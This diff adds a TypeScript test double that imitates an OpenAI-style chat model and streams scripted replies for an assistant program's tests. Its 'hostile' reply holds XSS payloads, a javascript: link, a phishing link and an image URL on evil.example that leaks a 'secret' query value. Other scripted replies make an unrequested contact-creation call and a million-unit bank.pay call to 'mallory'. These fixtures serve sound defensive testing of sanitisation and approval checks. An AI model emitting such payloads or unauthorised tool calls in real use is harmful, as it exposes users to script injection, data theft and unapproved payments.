@@ -1,0 +1,94 @@
+/**
+ * A test double for the model's provider: speaks OpenAI's chat completions over HTTP and answers from a script, chosen by the person's words.
+ * Everything else in these tests is the real program.
+ */
+import { createServer, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+interface Message {
+  role: string;
+  content: unknown;
+}
+
+interface Request {
+  messages: Message[];
+  tools?: { function: { name: string } }[];
+  stream?: boolean;
+}
+
+type Said = { text: string; pauseMs?: number } | { tool: string; arguments: unknown };
+
+/** What the model says next, from the last words of the person and the results of the tools since. */
+function next(words: string, results: string[]): Said {
+  if (/slowly/i.test(words)) return { text: Array.from({ length: 60 }, (_, at) => `word${at + 1}`).join(' '), pauseMs: 100 };
+  if (/note on ada/i.test(words)) {
+    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: 'Ada' } };
+    const id = /contact_[0-9a-z]+/.exec(results[0] ?? '')?.[0] ?? '';
+    if (results.length === 1) return { tool: 'crm.list_notes', arguments: { contact_id: id } };
+    if (results.length === 2) return { tool: 'crm.create_contact', arguments: { name: /named (\w+)/i.exec(words)?.[1] ?? 'Mallory', emails: ['mallory@engines.example'] } };
+    return { text: /denied|refused|reject/i.test(results[2] ?? '') ? 'It was **refused**, so nobody was added.' : '**Mallory** is in the contacts now.' };
+  }
+  if (/forbidden/i.test(words)) return results.length === 0 ? { tool: 'bank.pay', arguments: { amount: 1000000, to: 'mallory' } } : { text: 'That is not possible here.' };
+  if (/who is/i.test(words)) {
+    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: /who is (\w+)/i.exec(words)?.[1] ?? '' } };
+    return { text: '**Ada Lovelace** works at *Analytical Engines*.\n\n| field | value |\n|---|---|\n| mail | ada@engines.example |\n\n- knows engines\n- writes `programs`' };
+  }
+  if (/hostile/i.test(words)) {
+    return { text: 'Look: <img src=x onerror="document.title=\'owned\'"> <script>document.title="owned"</script> ![chart](https://evil.example/pixel.png?q=secret) [your bank](https://evil.example/login) [run](javascript:alert(1)) [mine](https://steward.example/docs)' };
+  }
+  return { text: 'Hello. I look things up, change records, and ask before anything leaves the house.' };
+}
+
+function wordsOf(message: Message | undefined): string {
+  return typeof message?.content === 'string' ? message.content : JSON.stringify(message?.content ?? '');
+}
+
+function reply(request: Request): Said {
+  const last = request.messages.map((message) => message.role).lastIndexOf('user');
+  const results = request.messages.slice(last + 1).filter((message) => message.role === 'tool');
+  return next(wordsOf(request.messages[last]), results.map(wordsOf));
+}
+
+/** A tool under the name it is offered by: providers take no dots. */
+function wireName(tool: string, request: Request): string {
+  const folded = tool.replaceAll('.', '_');
+  return request.tools?.map((one) => one.function.name).find((name) => name === tool || name === folded) ?? folded;
+}
+
+async function answer(request: Request, response: ServerResponse): Promise<void> {
+  const said = reply(request);
+  const usage = { prompt_tokens: 120, completion_tokens: 24, total_tokens: 144, prompt_tokens_details: { cached_tokens: 0 } };
+  const base = { id: 'chatcmpl-scripted', created: 1, model: 'scripted' };
+  response.writeHead(200, { 'content-type': 'text/event-stream' });
+  const send = (delta: unknown, finish: string | null = null) =>
+    response.write(`data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`);
+  send({ role: 'assistant', content: '' });
+  if ('tool' in said) {
+    send({ tool_calls: [{ index: 0, id: `call_${request.messages.length}`, type: 'function', function: { name: wireName(said.tool, request), arguments: JSON.stringify(said.arguments) } }] });
+    send({}, 'tool_calls');
+  } else {
+    for (const piece of said.text.match(/\S+\s*/g) ?? []) {
+      send({ content: piece });
+      if (said.pauseMs !== undefined) await new Promise((resolve) => setTimeout(resolve, said.pauseMs));
+    }
+    send({}, 'stop');
+  }
+  response.write(`data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [], usage })}\n\n`);
+  response.end('data: [DONE]\n\n');
+}
+
+/** Starts it on a free port. */
+export async function startScriptedModel(): Promise<{ url: string; server: Server }> {
+  const server = createServer((request, response) => {
+    const chunks: Buffer[] = [];
+    request.on('data', (chunk: Buffer) => chunks.push(chunk));
+    request.on('end', () => {
+      const body: Request = JSON.parse(Buffer.concat(chunks).toString());
+      void answer(body, response);
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  const { port }: AddressInfo = typeof address === 'object' && address !== null ? address : { port: 0, address: '', family: '' };
+  return { url: `http://127.0.0.1:${port}/v1`, server };
+}
